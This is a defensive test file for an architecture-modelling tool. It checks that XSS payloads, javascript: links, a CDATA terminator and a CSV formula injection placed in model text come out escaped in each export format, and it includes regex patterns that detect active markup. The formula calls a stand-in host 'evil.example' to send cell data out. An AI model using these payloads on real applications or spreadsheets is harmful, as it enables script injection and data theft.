// Model text containing markup or script shows as text in every output: the SVG diagrams, the HTML and
// Markdown documents, ArchiMate XML, Mermaid and CSV. Architects open models other agencies send them and
// paste tables from spreadsheets; none of that text may become markup, script, a link or a formula.
import { describe, expect, test, beforeAll } from 'vitest';
import type { SemanticModel } from '../../src/model/types.js';
import { renderArchitectureSvg, renderRoadmapSvg } from '../../src/diagram/index.js';
import { exportArchimate, exportCsv, exportHtml, exportMarkdown, exportMermaid } from '../../src/export/index.js';
import { buildFiles, createTestServices } from '../helpers/services.js';
import { checkXml } from '../helpers/xml.js';

const SCRIPT = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(1)>';
const JS_LINK = 'javascript:alert(1)';
const CDATA_END = ']]>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")';

/** DSL string literal: escape backslash and quote. */
const q = (s: string) => `"${s.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;

const MODEL = `
instansi Jahat ${q(`Pemda ${SCRIPT}`)} {
    jenis pemerintah-daerah
    periode 2024 - 2028
    deskripsi ${q(`${IMG} ${CDATA_END}`)}
    dasar-hukum arsitektur ${q(`Perwal ${JS_LINK}`)}
}
unit Dinas ${q(`Dinas ${IMG}`)} { singkatan ${q(SCRIPT)} }
proses Proses1 ${q(`Proses ${SCRIPT}`)} { kode RAB.09.06.06 pemilik Dinas deskripsi ${q(`[klik](${JS_LINK}) ${CDATA_END} & <b>`)} }
data Data1 ${q(`Data ${CDATA_END}`)} { kode RAD.01 pemilik Dinas format ${q(IMG)} }
layanan Layanan1 ${q(`Layanan ${IMG}`)} { kode RAL.01 pemilik Dinas pengguna ${q(FORMULA)} didukung-oleh Proses1 melalui Aplikasi1 }
aplikasi Aplikasi1 ${q(`Aplikasi ${JS_LINK}`)} { kode RAA.02.01 khusus pemilik Dinas mendukung Proses1 memproses Data1 lisensi ${q(FORMULA)} }
infrastruktur Infra1 ${q(`Server ${SCRIPT}`)} { kategori server pemilik Dinas lokasi ${q(IMG)} }
keamanan Aman1 ${q(`Kebijakan ${CDATA_END}`)} { kategori standar pemilik Dinas melindungi Aplikasi1 }
peta-rencana Rencana ${q(`Peta ${SCRIPT}`)} {
    inisiatif Ini1 ${q(`Inisiatif ${IMG}`)} {
        muatan aplikasi tahun 2025 - 2026 pelaksana Dinas mewujudkan Aplikasi1
        program ${q(FORMULA)} deskripsi ${q(`${JS_LINK} ${CDATA_END}`)}
    }
    tonggak T1 ${q(`Tonggak ${SCRIPT}`)} { tahun 2026 inisiatif Ini1 }
}
`;

let model: SemanticModel;

beforeAll(async () => {
    const services = await createTestServices();
    const built = await buildFiles(services, { 'jahat.spbe': MODEL });
    const errors = [...built.diagnostics.values()].flat().filter(d => d.severity === 1);
    expect(errors.map(e => e.message)).toEqual([]);
    model = built.model;
    // The hostile text really is in the model, so the checks below are not vacuous.
    expect(model.agency?.name).toContain(SCRIPT);
    expect(model.elements.find(e => e.id === 'Layanan1')?.name).toContain(IMG);
});

/** No element or attribute that runs or loads anything, whatever the text. */
function expectNoActiveMarkup(markup: string): void {
    expect(markup).not.toMatch(/<script/i);
    expect(markup).not.toMatch(/<img[^>]*onerror/i);
    expect(markup).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
    expect(markup).not.toMatch(/(href|src|xlink:href)\s*=\s*["']?\s*javascript:/i);
    expect(markup).not.toMatch(/<foreignObject/i);
}

describe('hostile model text in the outputs', () => {
    test.each([
        ['architecture', () => renderArchitectureSvg(model)],
        ['roadmap', () => renderRoadmapSvg(model, { today: '2025-06-30' })],
    ])('the %s SVG is well-formed XML with the text as text', async (_name, render) => {
        const svg = await render();
        const xml = checkXml(svg);
        expect(xml.problems).toEqual([]);
        expectNoActiveMarkup(svg);
        expect(xml.elements).not.toContain('script');
        // The names are shown (escaped), not dropped.
        expect(svg).toMatch(/&lt;script&gt;|&lt;img|javascript:alert/);
        expect(xml.attributes.filter(a => /^on/i.test(a.name))).toEqual([]);
    });

    test('ArchiMate XML is well-formed and keeps every hostile text as escaped text', () => {
        const xml = exportArchimate(model);
        const check = checkXml(xml);
        expect(check.problems).toEqual([]);
        expectNoActiveMarkup(xml);
        expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
        expect(xml).toContain(']]&gt;');
        expect(xml).not.toContain(']]>');
    });

    test('the HTML document escapes all model text and contains no script or remote resource', async () => {
        const html = exportHtml(model, { lang: 'en', diagrams: { architecture: { svg: await renderArchitectureSvg(model) } } });
        expectNoActiveMarkup(html);
        expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
        expect(html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
        // Nothing loaded from elsewhere: no http(s) URL in a src/href, no @import.
        expect(html).not.toMatch(/(src|href)\s*=\s*["']?\s*(https?:)?\/\//i);
        expect(html).not.toMatch(/@import/i);
    });

    test('the Markdown document shows the markup as text (escaped), with no live link or HTML', () => {
        const md = exportMarkdown(model, { lang: 'en' });
        // In CommonMark a backslash-escaped '<' or '[' is a literal character, so only unescaped ones count.
        expect(md).not.toMatch(/(^|[^\\])<(script|img|\/script)/im);
        expect(md).not.toMatch(/(^|[^\\])\]\(javascript:/im);
        expect(md).toContain('\\<script\\>alert(1)\\</script\\>');
        expect(md).toContain('\\[klik\\](javascript:alert(1))');
    });

    test('Mermaid labels cannot close their quotes or open markup', () => {
        const mermaid = exportMermaid(model);
        expect(mermaid).not.toMatch(/<script/i);
        expect(mermaid).not.toMatch(/<img/i);
        for (const line of mermaid.split('\n')) expect((line.match(/"/g) ?? []).length % 2, line).toBe(0);
    });

    test('CSV cells that a spreadsheet would run as a formula are neutralised', () => {
        const files = exportCsv(model);
        const all = Object.values(files).join('\n');
        expect(all).toContain("'=HYPERLINK(");
        expect(all).not.toMatch(/(^|,)"?=HYPERLINK/m);
    });
});

describe('the well-formedness check used above', () => {
    test('finds what would let text become markup', () => {
        expect(checkXml('<a x="1">ok &amp; fine</a>').problems).toEqual([]);
        expect(checkXml('<a>fish & chips</a>').problems).not.toEqual([]);
        expect(checkXml('<a t="<b>"></a>').problems).not.toEqual([]);
        expect(checkXml('<a><b></a>').problems).not.toEqual([]);
        expect(checkXml('<a>x ]]> y</a>').problems).not.toEqual([]);
        expect(checkXml('<a x=1></a>').problems).not.toEqual([]);
    });
});
